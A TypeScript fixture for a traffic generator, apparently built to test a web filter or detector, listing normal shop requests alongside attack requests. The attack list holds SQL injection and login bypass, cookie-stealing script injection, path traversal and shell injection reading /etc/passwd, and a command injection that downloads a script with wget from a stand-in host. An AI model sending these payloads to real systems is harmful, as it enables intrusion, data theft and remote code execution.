/** One request of the traffic generator. */
export interface TrafficRequest {
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly body?: string;
  readonly type?: string;
}

const form = 'application/x-www-form-urlencoded';

/** What visitors do. */
export const LEGITIMATE: readonly TrafficRequest[] = [
  { method: 'GET', path: '/' },
  { method: 'GET', path: '/product?id=1' },
  { method: 'GET', path: '/product?id=3' },
  { method: 'GET', path: '/picture?id=2' },
  { method: 'GET', path: '/search?q=tea' },
  { method: 'GET', path: '/search?q=%EC%9C%A0%EA%B8%B0' },
  { method: 'GET', path: '/cart' },
  { method: 'GET', path: '/style.css' },
  { method: 'GET', path: '/api/products' },
  { method: 'POST', path: '/cart', body: 'id=4&count=2', type: form },
  { method: 'POST', path: '/login', body: 'user=minji&password=spring-rain-9', type: form },
  { method: 'POST', path: '/api/orders', body: '{"items":[{"id":5,"count":1}],"note":"please ring twice"}', type: 'application/json' },
];

/** What attackers try: injection into SQL, markup, paths and shells. */
export const ATTACKS: readonly TrafficRequest[] = [
  { method: 'GET', path: "/product?id=1'%20or%201=1--" },
  { method: 'GET', path: '/product?id=1%20union%20select%20card,name%20from%20customers--' },
  { method: 'GET', path: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' },
  { method: 'GET', path: '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E' },
  { method: 'GET', path: '/picture?id=../../../../etc/passwd' },
  { method: 'GET', path: '/search?q=;cat%20/etc/passwd' },
  { method: 'POST', path: '/login', body: "user=admin'%20or%20'1'='1&password=x", type: form },
  { method: 'POST', path: '/cart', body: 'id=$(wget%20http://192.0.2.7/x.sh)&count=1', type: form },
];
